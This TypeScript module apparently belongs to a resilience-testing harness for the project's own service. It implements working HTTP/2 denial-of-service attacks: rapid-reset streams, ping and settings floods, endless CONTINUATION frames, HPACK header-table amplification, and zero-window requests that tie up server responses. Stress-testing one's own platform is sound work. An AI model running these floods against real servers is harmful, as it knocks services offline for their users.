import type { AbuseKind } from "../abuse-kind.ts";
import { endHeaders, endStream, frame, headerBlock, opening, requestHeaders } from "../abuser/http2-frames.ts";
import type { Abuser } from "../abuser/abuser.ts";

/** Connections that send frames as fast as the platform takes them. */
function frames(name: string, what: string, connections: number, framesOf: (round: number) => Buffer): AbuseKind {
  return {
    name,
    what,
    prepare: (abuser: Abuser) => (signal) =>
      abuser.hold(signal, connections, (socket) => {
        let round = 0;
        const send = () => {
          while (!socket.destroyed && socket.write(framesOf(round++)))
            if (round % 64 === 0) return void setImmediate(send);
        };
        socket.write(opening);
        socket.on("drain", send);
        send();
      }),
  };
}

const rstCode = Buffer.from([0, 0, 0, 8]);

export const rapidReset: AbuseKind = frames("rapid-reset", "HTTP/2 requests that are reset at once", 20, (round) =>
  Buffer.concat(
    Array.from({ length: 100 }, (_, n) => {
      const stream = (2 * (round * 100 + n) + 1) % 2 ** 31;
      const headers = requestHeaders("GET", "/iam/v2beta1/groups");
      return Buffer.concat([
        frame("headers", endStream | endHeaders, stream, headers),
        frame("rstStream", 0, stream, rstCode),
      ]);
    }),
  ),
);

export const pings: AbuseKind = frames("pings", "HTTP/2 pings and settings", 20, () =>
  Buffer.concat(
    Array.from({ length: 200 }, () => Buffer.concat([frame("ping", 0, 0, Buffer.alloc(8)), frame("settings", 0, 0)])),
  ),
);

export const continuations: AbuseKind = frames(
  "continuations",
  "HTTP/2 headers in frames that never end",
  50,
  (round) => {
    const block = headerBlock({ "x-header": "x".repeat(100) });
    return round === 0
      ? frame("headers", 0, 1, requestHeaders("GET", "/"))
      : frame("continuation", 0, 1, Buffer.concat(Array.from({ length: 100 }, () => block)));
  },
);

/** A field that was added to the dynamic table once is repeated with one byte each. */
export const headerTable: AbuseKind = frames(
  "header-table",
  "HTTP/2 headers that repeat a long field of the table 10,000 times",
  20,
  (round) => {
    const added = Buffer.concat([
      Buffer.from([0x40, 8]),
      Buffer.from("x-header"),
      // A length of 3,000 with a prefix of seven bits.
      Buffer.from([0x7f, 0xb9, 0x16]),
      Buffer.alloc(3_000, "x"),
    ]);
    const repeated = Buffer.alloc(10_000, 0x80 | 62);
    const block = Buffer.concat([requestHeaders("GET", "/"), ...(round === 0 ? [added] : []), repeated]);
    return frame("headers", endStream | endHeaders, 2 * round + 1, block);
  },
);

export const emptyWindows: AbuseKind = {
  name: "empty-windows",
  what: "HTTP/2 calls for pages whose responses the client never receives",
  prepare: (abuser) => (signal) =>
    abuser.hold(signal, 100, (socket) => {
      // SETTINGS_INITIAL_WINDOW_SIZE: 0
      socket.write(Buffer.concat([opening, frame("settings", 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))]));
      const token = abuser.ownerToken;
      const authorization = Buffer.concat([
        Buffer.from([0, 13]),
        Buffer.from("authorization"),
        lengthOf(`Bearer ${token}`.length),
        Buffer.from(`Bearer ${token}`),
      ]);
      const block = Buffer.concat([requestHeaders("GET", "/registry/v2beta1/repos?page_size=200"), authorization]);
      for (let n = 0; n < 100; n++) socket.write(frame("headers", endStream | endHeaders, 2 * n + 1, block));
    }),
};

/** An integer of HPACK with a prefix of seven bits. */
function lengthOf(length: number): Buffer {
  if (length < 127) return Buffer.from([length]);
  const bytes = [127];
  let rest = length - 127;
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
}
